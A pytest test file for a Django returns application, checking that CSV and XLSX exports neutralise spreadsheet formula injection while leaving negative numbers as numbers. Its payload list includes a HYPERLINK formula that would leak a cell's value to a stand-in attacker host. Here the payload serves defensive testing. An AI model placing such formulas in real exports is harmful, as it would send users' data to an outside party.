"""Exported text never runs as a spreadsheet formula; numbers stay numbers, negative ones too."""

import io
from collections import defaultdict
from decimal import Decimal

import pytest
from django.db import models

from core.spreadsheet import csv_cell, neutralise, write_csv, write_xlsx
from disposition.models import StockMovement
from reports import exports
from reports.resources import Money
from rma.models import ReturnState
from tests.factories import DispositionRuleFactory, client_with_policy, return_in_state
from tests.reports.exports import EXPORTS, content_of, exported, request_export, xlsx_rows, xlsx_sheet

# Lower case: customer emails are stored trimmed and lower-cased.
PAYLOADS = ['=hyperlink("http://evil.example/?leak="&a1,"open")', "+1", "-2+3", "@sum(a1)", "\tx", "\rx", "\nx"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_with_a_formula_character_gets_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Hafenwerk Apparel", "RA-63V8-E9AM-P", "a=b", "x-1", "", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(("number", "shown"), [
    (Decimal("-12.50"), "-12.50"), (Decimal("12.50"), "12.50"), (-3, "-3"), (Decimal("-0.005"), "-0.005"),
])
def test_numbers_are_never_escaped(number, shown):
    assert csv_cell(number) == shown


def test_negative_amounts_stay_numbers_in_both_formats():
    rows = [["=cmd", Decimal("-12.50"), -3]]
    csv_file, xlsx_file = io.BytesIO(), io.BytesIO()

    write_csv(["Note", "Refund amount", "Quantity"], rows, csv_file)
    write_xlsx(["Note", "Refund amount", "Quantity"], rows, xlsx_file, title="Test")

    assert csv_file.getvalue().decode("utf-8-sig").splitlines()[1] == "'=cmd,-12.50,-3"
    note, amount, quantity = next(xlsx_sheet(xlsx_file.getvalue()).iter_rows(min_row=2))
    assert note.value == "'=cmd" and note.data_type == "s"
    assert (amount.value, amount.data_type, amount.number_format) == (-12.5, "n", "0.00")
    assert (quantity.value, quantity.data_type) == (-3, "n")


def test_characters_xlsx_cannot_hold_are_replaced_not_fatal():
    xlsx_file = io.BytesIO()

    write_xlsx(["Note"], [["bell\x07 and nul\x00"]], xlsx_file, title="Test")

    assert xlsx_rows(xlsx_file.getvalue())[1] == ["bell\N{REPLACEMENT CHARACTER} and nul\N{REPLACEMENT CHARACTER}"]


# -- every text column of every export ---------------------------------------------------------------


def text_columns(listing) -> list[tuple[str, str]]:
    """(column name, attribute path) of each column of the admin's export that reads a text field."""
    columns = []
    for field in listing.resource().get_export_fields():
        if isinstance(field, Money) or field.attribute is None:
            continue
        model, *path, name = [listing.model, *field.attribute.split("__")]
        for step in path:
            model = model._meta.get_field(step).related_model
        if name in {f.name for f in model._meta.get_fields()} and isinstance(
            model._meta.get_field(name), models.CharField | models.TextField
        ):
            columns.append((field.column_name, field.attribute))
    return columns


def plant(row_object, columns: list[tuple[str, str]]) -> dict[str, str]:
    """A payload in the field each column reads (cut to the field's length); what each column should now hold.

    Each object gets its fields in one update, so constraints across fields (an override has a reason) hold.
    """
    updates, stored = defaultdict(dict), {}
    for index, (column, attribute) in enumerate(columns):
        *path, name = attribute.split("__")
        target = row_object
        for step in path:
            target = getattr(target, step)
        max_length = target._meta.get_field(name).max_length
        stored[column] = PAYLOADS[index % len(PAYLOADS)][:max_length]
        updates[type(target), target.pk][name] = stored[column]
    for (model, pk), fields in updates.items():
        model._base_manager.filter(pk=pk).update(**fields)
    return stored


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("export", list(EXPORTS))
def test_every_text_column_of_every_export_is_neutralised(client, staff, export, file_format):
    merchant = client_with_policy(auto_authorize=False)
    DispositionRuleFactory(client=merchant, forced_action="restock")  # so the disposition names its rule
    return_in_state(ReturnState.DISPOSITIONED, staff=staff, units=1, client=merchant)
    listing = exports.exportable(EXPORTS[export])
    columns = text_columns(listing)
    planted = plant(listing.model._default_manager.get(), columns)
    client.force_login(staff.manager)

    header, row = exported(client, EXPORTS[export], {"queue": "all"} if export == "refunds" else {}, file_format)
    exported_text = {column: row[header.index(column)] for column in planted}

    assert len(planted) >= 4, "every export has several text columns"
    assert exported_text == {column: "'" + text for column, text in planted.items()}


def test_a_negative_stock_movement_stays_an_unquoted_number(client, staff):
    return_in_state(ReturnState.DISPOSITIONED, staff=staff, units=1)
    StockMovement.objects.update(quantity=-3)
    client.force_login(staff.manager)

    csv_text = content_of(request_export(client, "disposition.stockmovement")).decode("utf-8-sig")
    xlsx_header, xlsx_row = exported(client, "disposition.stockmovement", file_format="xlsx")

    assert ",-3," in csv_text.splitlines()[1]
    assert xlsx_row[xlsx_header.index("Quantity")] == -3
